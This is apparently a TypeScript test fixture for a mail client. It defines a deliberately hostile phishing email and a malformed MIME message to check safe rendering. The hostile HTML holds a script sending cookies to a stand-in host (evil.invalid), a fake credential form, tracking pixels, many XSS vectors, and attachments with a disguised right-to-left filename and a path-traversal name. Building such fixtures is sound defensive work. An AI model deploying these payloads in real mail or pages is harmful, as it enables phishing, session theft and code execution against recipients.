import type { MailSpec } from './mail-spec.ts';

/** What nobody should be hurt by: shown here so that everybody can see that nobody is. */
export const hostileMails: readonly MailSpec[] = [
  {
    id: 'hostile-html',
    minutesAgo: 240,
    to: 'billing@example.com',
    from: { name: 'Larkfield Outfitters Billing', address: 'billing@larkfie1d.invalid' },
    subject: 'URGENT: unpaid invoice – your session has expired, sign in again',
    style: 'html',
    text: 'Your session has expired. Sign in again to see invoice 99-1207.',
    html: `<html><head><meta http-equiv="refresh" content="0;url=https://evil.invalid/go"><base href="https://evil.invalid/">
<style>@import url(https://evil.invalid/s.css); body{background:url(https://evil.invalid/open.gif)} #cover{position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff}
input[value^="a"]{background-image:url(https://evil.invalid/leak?a)}</style>
<script>document.location='https://evil.invalid/?c='+document.cookie</script></head>
<body onload="fetch('https://evil.invalid/loaded')"><div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">
<h2 style="color:#b3261e">Your session has expired</h2>
<p>Dear colleague, the invoice <b>99-1207</b> over <b>4,912.00 EUR</b> is overdue. Sign in again to see it:</p>
<form action="https://evil.invalid/login" method="post"><p>Login <input name="login" autofocus></p><p>Password <input name="password" type="password"></p><button formaction="javascript:alert(1)">Sign in</button></form>
<p>or open <a href="https://evil.invalid/pay">https://example.com/billing/invoice/99-1207</a>, or <a href="javascript:alert(document.domain)">this secure link</a>, or <a href="data:text/html,<script>alert(1)</script>">the document</a>.</p>
<img src="x" onerror="alert(1)"><svg onload="alert(2)"><animate attributeName="href" values="javascript:alert(3)"/></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(4)></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.alert(5)</script>"></iframe><object data="https://evil.invalid/x.swf"></object>
<img src="https://evil.invalid/pixel.gif?to=billing" width="1" height="1"><a href="https://evil.invalid/unsubscribe" ping="https://evil.invalid/ping">unsubscribe</a>
</div></body></html>`,
    attachments: [
      {
        name: 'Invoice_99-1207_\u202efdp.exe',
        type: 'application/pdf',
        content: () => Buffer.from('This is no program. It only has the name of one.\n'),
      },
      {
        name: '../../autostart/readme.html',
        type: 'text/html',
        content: () => Buffer.from('<script>alert("attachment")</script>\n'),
      },
    ],
  },
];

/**
 * A mail as broken senders write them: bytes above 127 in the header, a charset that is not true, base64 that is none,
 * parts that do not end. Postroom must show what can be read of it and say what was wrong.
 */
export function brokenMail(now: Date): Buffer {
  const date = new Date(now.getTime() - 330 * 60_000).toUTCString().replace('GMT', '+0000');
  const lines = [
    'From: "Ren\xe9 L\xf6wenberg" <rene.loewenberg@altgeraet.example>',
    'To: returns@example.com',
    'Subject: R\xfccksendung: zwei paar handschuhe, =?utf-8?Q?bestellung=20LF-2039?= =?utf-8?B?NDc=',
    `Date: ${date}`,
    'Message-ID: <broken-mime@mail.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="----=_teil',
    ' X-Priority: 3',
    '',
    'Diese Nachricht hat mehrere Teile.',
    '------=_teil',
    'Content-Type: text/plain; charset="us-ascii"',
    'Content-Transfer-Encoding: 8bit',
    '',
    'Hallo,',
    '',
    'die Handschuhe sind zu gro\xdf, ich h\xe4tte sie gern eine Nummer kleiner.',
    'Die Rechnung h\xe4ngt an (hoffe ich, mein Computer ist so alt wie ich).',
    '',
    'Gr\xfc\xdfe',
    'Ren\xe9 L\xf6wenberg',
    '',
    '------=_teil',
    'Content-Type: application/pdf; name="rechnung.pdf',
    'Content-Transfer-Encoding: base64',
    'Content-Disposition: attachment; filename=rechnung.pdf',
    '',
    'JVBERi0xLjQK%%%this is not base64%%%',
    'JUVPRgo',
  ];
  return Buffer.from(lines.join('\r\n'), 'latin1');
}
